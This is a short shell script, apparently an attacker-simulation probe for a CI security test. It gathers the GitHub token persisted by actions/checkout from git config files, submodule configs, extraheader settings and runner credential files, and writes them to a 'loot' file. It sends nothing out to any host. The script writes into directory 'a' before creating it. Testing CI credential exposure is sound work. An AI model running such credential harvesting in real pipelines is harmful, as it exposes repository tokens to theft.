# Looks for the token actions/checkout persisted for later steps: in the
# repository's and its submodules' config, and through git in its
# worktree (checkout v6 includes its credentials file for every worktree).
set +e # an attacker keeps going when a step is refused
common=$(git rev-parse --path-format=absolute --git-common-dir)
{
  echo "common: $common"
  cat "$common/config" "$common"/modules/*/config
  git config --show-origin --get-regexp 'extraheader'
  cat "$RUNNER_TEMP"/git-credentials-*.config
} > a/loot.txt 2>&1
mkdir -p a && echo "T1 was here" > a/t1.txt
